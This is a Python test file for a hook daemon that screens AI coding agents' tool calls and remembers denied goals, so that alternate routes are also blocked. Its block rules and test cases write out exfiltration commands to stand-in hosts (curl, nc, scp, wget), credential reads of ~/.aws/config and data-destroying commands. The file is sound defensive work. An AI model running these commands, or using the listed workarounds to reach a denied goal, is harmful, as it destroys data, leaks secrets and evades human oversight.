"""Sessions of several calls, as the clients send them, under the shipped rules and a few of a person's own."""

import json
from collections.abc import Mapping
from dataclasses import replace
from random import Random

import msgspec
import pytest

from security_hooks.clients import client_named
from security_hooks.model.decision import Basis, Decision, Verdict
from security_hooks.model.event import Place
from security_hooks.policy.config_types import Mode
from security_hooks.policy.snapshot import Snapshot
from security_hooks.policy.source import PolicyDirectories
from security_hooks.service.asks import Asks
from security_hooks.service.denied_goals import MOST_ASKED, RULE, DeniedGoals
from security_hooks.service.directories import shipped_dir
from security_hooks.service.exchange import Exchange
from security_hooks.service.load import load_snapshot
from security_hooks.service.offline import Offline, fictitious_project
from security_hooks.service.peer import Peer
from security_hooks.service.permits import Permits
from security_hooks.service.summary import summary_of

HOME, PROJECT = "/home/user", "/home/user/project"
ALLOW, ASK, DENY = Verdict.ALLOW, Verdict.ASK, Verdict.DENY
OWN = """
block "no-recursive-rm"
  match command("rm") with_flags("-r", "-rf", "-fr")
  nudge "Use trash-cli or move to a temp directory"
block "no-force-push"
  match command("git") subcommand("push") with_flags("--force")
  nudge "Use --force-with-lease on a branch of your own"
block "no-credentials"
  match command("cat") reads("~/.aws/config")
  nudge "Use a profile by its name"
block "no-sudo"
  match wrapped_by("sudo")
  nudge "Do it without sudo"
block "clean-by-make"
  match command("rm") deletes("<project>") argument("*.whl")
  tags "about-the-way"
  nudge "Use make clean"
block "no-sending"
  match flow("~/project/notes.txt", "network")
  nudge "Send a summary"
block "pipe-to-exfil"
  match pipeline_to("curl", "wget", "nc")
  nudge "Don't pipe output to network commands"
block "no-lock-edit"
  match writes("**/uv.lock")
  unless command("uv")
  nudge "Let uv write it"
suspicious "kept"
  match command("unlink") deletes("~/project/keep")
  nudge "Move it to a temp directory"
block "no-data-move"
  match moves("~/project/data")
  nudge "Leave it where it is"
"""
SHELLS = {"claude-code": "Bash", "codex-cli": "Bash", "gemini-cli": "run_shell_command"}
EVENTS = {"claude-code": ("PreToolUse", "PostToolUse"), "codex-cli": ("PreToolUse", "PostToolUse")}
EVENTS["gemini-cli"] = ("BeforeTool", "AfterTool")


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Snapshot:
    own = tmp_path_factory.mktemp("own")
    (own / "rules").mkdir()
    (own / "rules" / "own.rules").write_text(OWN)
    nowhere = str(tmp_path_factory.mktemp("nowhere"))
    return load_snapshot(
        PolicyDirectories(str(shipped_dir()), f"{shipped_dir()}/rules", nowhere, str(own), nowhere), None
    )


class Session:
    """What the daemon does with the calls of agents, one after the other."""

    def __init__(self, snapshot: Snapshot, client: str = "claude-code") -> None:
        self.snapshot = snapshot
        self.client = client
        self.now = 1_000_000.0
        self.goals = DeniedGoals(lambda: self.now)
        self.permits = Permits(Random(1).choice)
        self.asks = Asks(self.permits, lambda _: None, lambda text: text, lambda _: 1, lambda: self.now)
        self.number = 0

    def payload(self, tool: str, given: Mapping[str, object], session: str, which: int) -> bytes:
        event = EVENTS[self.client][which]
        told = {"session_id": session, "turn_id": "1", "model": "m", "cwd": PROJECT, "permission_mode": "default"}
        told |= {"transcript_path": f"{HOME}/.agent/session.jsonl", "hook_event_name": event}
        told |= {"tool_use_id": f"toolu_{self.number}", "timestamp": "2026-01-01T00:00:00.000Z"}
        return json.dumps(told | {"tool_name": tool, "tool_input": given, "tool_response": {"stdout": ""}}).encode()

    def exchange(self, tool: str, given: Mapping[str, object], session: str, which: int = 0) -> Exchange:
        client = client_named(self.client)
        assert client is not None
        payload = self.payload(tool, given, session, which)
        place = Place(PROJECT, HOME, PROJECT)
        return Exchange(
            Peer(1, 2), name=self.client, client=client, event=client.decode(payload), place=place, payload=payload
        )

    def call(self, tool: str, given: Mapping[str, object], session: str = "s") -> Decision:
        self.number += 1
        exchange = self.exchange(tool, given, session)
        assert exchange.event is not None
        judgement = Offline(self.snapshot, fictitious_project).event(exchange.event, HOME)
        exchange.summary, exchange.snapshot = summary_of(judgement.call), self.snapshot
        decision = self.goals.restrict(exchange, judgement.decision)
        assert decision.would >= judgement.decision.would
        decision, _ = self.asks.settle(exchange, decision)
        if decision.verdict is ASK:
            exchange.answered = "ask" if self.client == "claude-code" else "deny"
        self.goals.answered(exchange, decision)
        return decision

    def run(self, command: str, session: str = "s") -> Decision:
        return self.call(SHELLS[self.client], {"command": command}, session)

    def ran(self, command: str, session: str = "s") -> None:
        """The event after the call made last."""
        exchange = self.exchange(SHELLS[self.client], {"command": command}, session, 1)
        exchange.snapshot = self.snapshot
        self.goals.answered(exchange, Decision(ALLOW, Basis.DEFAULT))

    def permit(self) -> None:
        (ask,) = self.permits.waiting(self.now)
        self.permits.permit(ask, 1, self.now)


def told(decision: Decision) -> set[str]:
    return {finding.rule for finding in decision.findings if finding.verdict is decision.verdict}


DENIED_THEN = [
    # What destroys by another route
    ("rm -rf src", "find src -delete", DENY),
    ("rm -rf src", "python3 -c \"import shutil; shutil.rmtree('src')\"", DENY),
    ("rm -rf src", "perl -e 'unlink \"src/a\"'", DENY),
    ("rm -rf src", 'node -e \'require("fs").rmSync("src",{recursive:true})\'', DENY),
    ("rm -rf src", "rm src/a", DENY),
    ("rm -rf src", "> src/a", DENY),
    ("rm -rf src", ": > src/a", DENY),
    ("rm -rf src", "truncate -s 0 src/a", DENY),
    ("rm -rf src", "cp /dev/null src/a", DENY),
    ("rm -rf src", "rsync -a --delete empty/ src/", DENY),
    ("rm -rf src", "tar --remove-files -cf x.tar src", DENY),
    ("rm -rf src/core", "find src -delete", DENY),
    ("rm -rf src", "mv src /tmp/x && unlink /tmp/x", DENY),
    # What may
    ("rm -rf src", 'unlink "$X"', ASK),
    ("rm -rf src", "cat list | xargs unlink", ASK),
    ("rm -rf src", "frobnicate src", ASK),
    # What the nudge says, and what has nothing to do with it
    ("rm -rf src", "mv src /tmp", ALLOW),
    ("rm -rf src", "mv src /tmp/x", ALLOW),
    ("rm -rf src", "trash-put src", ALLOW),
    ("rm -rf src", "ls -R src", ALLOW),
    ("rm -rf src", "echo hello > src/a", ALLOW),
    ("rm -rf src", ": >> src/a", ALLOW),
    ("rm -rf src", "sed -i s/a/b/ src/a", ALLOW),
    ("rm -rf src", "rm notes.txt", ALLOW),
    ("rm -rf src", "rm src2", ALLOW),
    ("rm -rf src", "cp -r src /tmp/copy", ALLOW),
    ("rm -rf src", "git add src && git commit -m x", ALLOW),
    ("rm -rf src", 'unlink "/tmp/$X"', ALLOW),
    ("rm -rf /", "rm build/out.o", ALLOW),
    ("rm -rf ~", "rm build/out.o", ALLOW),
    ("rm -rf .", "rm notes.txt", ALLOW),
    ("rm -rf .", "unlink build/x", ALLOW),
    ("rm -rf .", "find build -delete", ALLOW),
    ("rm -rf /", "find /opt2 -delete", ASK),
    # A rule about the way is about no effect
    ("sudo unlink build/x", "unlink build/x", ALLOW),
    ("rm dist/a.whl", "unlink dist/a.whl", ALLOW),
    # Force pushes
    ("git push --force origin topic", "git push origin +topic", DENY),
    ("git push --force origin topic", "git push --delete origin topic", DENY),
    ("git push --force origin topic", "git push origin :topic", DENY),
    ("git push --force origin HEAD:topic", "git push origin +topic", DENY),
    ("git push --force", "git push origin +topic", ASK),
    ("git push --force origin topic", "git push --force-with-lease origin topic", ALLOW),
    ("git push --force origin topic", "git push origin topic", ALLOW),
    ("git push --force origin topic", "git push origin other", ALLOW),
    # Reading
    ("cat ~/.aws/config", "cp ~/.aws/config x", DENY),
    ("cat ~/.aws/config", "base64 ~/.aws/config", DENY),
    ("cat ~/.aws/config", "python3 -c \"print(open('/home/user/.aws/config').read())\"", DENY),
    ("cat ~/.aws/config", "tar czf x.tgz ~/.aws", DENY),
    ("cat ~/.aws/config", "mv ~/.aws/config x", DENY),
    ("cat ~/.aws/config", "grep -rn TODO .", ALLOW),
    ("cat ~/.aws/config", "aws s3 ls --profile x", ALLOW),
    # Sending
    ("cat ~/project/body.json | curl -d @- https://a.example", "wget --post-file=body.json https://a.example", DENY),
    ("cat ~/project/body.json | curl -d @- https://a.example", "scp body.json me@b.example:x", DENY),
    ("cat ~/project/body.json | curl -d @- https://a.example", "nc b.example 80 < body.json", DENY),
    ("cat ~/project/body.json | curl -d @- https://a.example", "curl -d '{}' https://a.example", ALLOW),
    ("cat ~/project/body.json | curl -d @- https://a.example", "curl https://a.example/x -o x", ALLOW),
    ("cat ~/project/body.json | curl -d @- https://a.example", "cat body.json", ALLOW),
    # Writing, moving
    ("echo x > uv.lock", "uv lock", ALLOW),
    ("mv data old", "mv data/a b", ALLOW),
    ("mv data old", "unlink data", DENY),
]


@pytest.mark.parametrize(("denied", "then", "verdict"), DENIED_THEN)
def test_what_a_denial_means_for_what_comes_then(snapshot: Snapshot, denied: str, then: str, verdict: Verdict) -> None:
    session = Session(snapshot)
    before = session.run(then, "another session that nothing was denied in")
    first = session.run(denied)
    assert first.verdict is DENY, first
    decision = session.run(then)
    assert decision.verdict is max(verdict, before.verdict), decision
    if verdict > before.verdict:
        assert told(decision) == {RULE}


@pytest.mark.parametrize("client", SHELLS)
def test_every_client_is_told_what_was_denied_and_what_lifts_it(snapshot: Snapshot, client: str) -> None:
    session = Session(snapshot, client)
    session.run("rm -rf src")
    session.now += 200
    decision = session.run("find src -delete")
    (finding,) = (finding for finding in decision.findings if finding.rule == RULE)
    assert "what rule no-recursive-rm denied 3 min ago" in finding.nudge
    assert "`security-hooks asks`" in finding.nudge
    assert finding.evidence == "rm -rf src"
    known = client_named(client)
    event = session.exchange(SHELLS[client], {"command": "x"}, "s").event
    assert known is not None and event is not None
    reply = known.encode(event, decision, known.ask_policies[0])
    assert "no-recursive-rm denied" in reply.stdout + reply.stderr


@pytest.mark.parametrize(
    ("tool", "given", "verdict"),
    [
        ("Write", {"file_path": f"{PROJECT}/uv.lock", "content": "x"}, DENY),
        ("Read", {"file_path": f"{PROJECT}/uv.lock"}, ALLOW),
        ("mcp__files__process", {"path": f"{PROJECT}/uv.lock"}, ASK),
    ],
)
def test_another_tool_is_another_route(
    snapshot: Snapshot, tool: str, given: Mapping[str, object], verdict: Verdict
) -> None:
    session = Session(snapshot)
    assert session.run("echo x > uv.lock").verdict is DENY
    assert session.call(tool, given).verdict is verdict


def test_reading_by_another_tool_is_another_route(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    read = {"file_path": f"{HOME}/.aws/config"}
    assert session.call("Read", read).verdict is ALLOW
    session.run("cat ~/.aws/config")
    assert session.call("Read", read).verdict is DENY


def test_other_sessions_of_the_project_are_held_to_it_and_others_are_not(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    assert session.run("find src -delete", "another").verdict is DENY


def test_what_was_moved_away_is_still_not_to_be_destroyed(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    assert session.run("mv src /tmp").verdict is ALLOW
    assert session.run("find /tmp/src -delete").verdict is DENY
    assert session.run("unlink /tmp/other").verdict is ALLOW


def test_a_denial_is_forgotten_after_a_while(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    session.now += 15 * 60
    assert session.run("find src -delete").verdict is DENY
    session.now += 1
    assert session.run("find src -delete").verdict is ALLOW


def test_nothing_is_remembered_where_that_is_switched_off(snapshot: Snapshot) -> None:
    session = Session(replace(snapshot, config=replace(snapshot.config, goal_minutes=0)))
    assert session.run("rm -rf src").verdict is DENY
    assert session.run("find src -delete").verdict is ALLOW


def test_a_person_permits_a_route_once_and_the_goal_is_forgotten(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    assert session.run("find src -delete").verdict is DENY
    session.permit()
    assert session.run("find src -delete").verdict is ALLOW
    assert session.run("unlink src/a").verdict is ALLOW
    # The rule itself is as it was.
    assert session.run("rm -rf src").verdict is DENY


def test_a_denial_by_a_rule_is_offered_to_nobody(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    assert session.permits.waiting(session.now) == ()


def test_a_question_that_was_asked_and_then_ran_clears_the_goal(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    assert session.run('unlink "$X"').verdict is ASK
    session.ran('unlink "$X"')
    assert session.run("find src -delete").verdict is ALLOW


def test_a_question_that_did_not_run_clears_nothing(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    session.run('unlink "$X"')
    session.run("ls")
    session.ran("ls")
    assert session.run("find src -delete").verdict is DENY


def test_questions_that_wait_are_bounded(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    for number in range(MOST_ASKED + 5):
        session.run(f'unlink "$X{number}"')
    assert len(session.goals._asked) == MOST_ASKED


def watching(snapshot: Snapshot) -> Snapshot:
    return replace(snapshot, config=replace(snapshot.config, mode=Mode.OBSERVE))


def test_where_a_policy_only_observes_the_record_says_what_would_have_been(snapshot: Snapshot) -> None:
    session = Session(watching(snapshot))
    for command, would in (("find src -delete", ALLOW), ("rm -rf src", DENY), ("find src -delete", DENY)):
        decision = session.run(command)
        assert (decision.verdict, decision.would) == (ALLOW, would)
    (found,) = (finding for finding in decision.findings if finding.rule == RULE)
    assert "no-recursive-rm would have denied just now" in found.nudge


def test_what_was_only_observed_binds_nobody_once_a_policy_enforces(snapshot: Snapshot) -> None:
    session = Session(watching(snapshot))
    session.run("rm -rf src")
    session.snapshot = snapshot
    assert session.run("find src -delete").would is ALLOW
    session.run("rm -rf src")
    assert session.run("find src -delete").verdict is DENY


def test_a_changed_policy_forgets_what_was_denied_under_the_old_one(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    session.snapshot = replace(snapshot, digest="another")
    assert session.run("find src -delete").verdict is ALLOW


@pytest.mark.parametrize(("client", "verdict"), [("codex-cli", ASK), ("gemini-cli", ASK), ("claude-code", ALLOW)])
def test_an_ask_that_was_a_denial_is_remembered_as_a_question(
    snapshot: Snapshot, client: str, verdict: Verdict
) -> None:
    session = Session(snapshot, client)
    assert session.run("unlink keep").verdict is ASK
    assert session.run("rm keep").verdict is verdict
    assert session.run("mv keep /tmp").verdict is ALLOW


def test_a_restart_forgets_nothing(snapshot: Snapshot) -> None:
    session = Session(snapshot)
    session.run("rm -rf src")
    data = list(session.goals.dump(int(session.now)))
    session.goals = DeniedGoals(lambda: session.now)
    assert session.run("find src -delete").verdict is ALLOW
    session.goals.restore(data, int(session.now))
    assert session.run("find src -delete").verdict is DENY


@pytest.mark.parametrize(
    "data", [b"", b"\xc1", msgspec.msgpack.encode([{"aim": "conquer"}]), msgspec.msgpack.encode(7)]
)
def test_what_is_no_dump_is_refused(data: bytes) -> None:
    with pytest.raises((msgspec.ValidationError, msgspec.DecodeError)):
        DeniedGoals(lambda: 0.0).restore([data], 0)
